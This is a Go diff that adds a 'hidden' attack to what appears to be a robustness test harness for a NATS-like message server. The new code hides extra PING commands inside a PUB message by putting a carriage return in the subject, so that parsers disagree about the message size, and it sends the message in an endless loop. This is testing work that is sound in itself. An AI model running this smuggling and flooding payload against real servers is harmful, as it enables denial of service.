@@ -41,6 +41,7 @@ var Attacks = []Attack{
 	{"oversize", "Sends messages that are larger than it may send.", oversize},
 	{"unfinished", "Announces messages and sends half of each.", unfinished},
 	{"flood", "Sends messages that nobody asked for as fast as it can.", flood},
+	{"hidden", "Hides pings from who counts them, within one message, by a carriage return.", hidden},
 	{"pings", "Sends nothing but pings, as fast as it can, and reads nothing.", pings},
 }
 
@@ -249,6 +250,23 @@ func pings(ctx context.Context, t *Target) error {
 	return t.within(ctx, func(ctx context.Context, c *Client, _ string) error {
 		for {
 			if err := c.Say("%s", many); err != nil {
+				return err
+			}
+		}
+	})
+}
+
+// hidden says a size that who takes a carriage return for a space reads as ten times of what
+// the server reads, which leaves out the last byte of a line with one. The rest of the
+// message is commands to the server.
+func hidden(ctx context.Context, t *Target) error {
+	pings := strings.Repeat("PING\r\n", 1000)
+	n := len(pings)/9 + 10
+	return t.within(ctx, func(ctx context.Context, c *Client, device string) error {
+		text := fmt.Sprintf("PUB %s _INBOX_%s.\rx %d0\n%s\r\n%s", t.subject(device, "heartbeat"), device, n, strings.Repeat("x", n), pings)
+		text += strings.Repeat("PING\r\n", (10*n+2-(n+2)-len(pings))/6+1)
+		for {
+			if err := c.Say("%s", text); err != nil {
 				return err
 			}
 		}
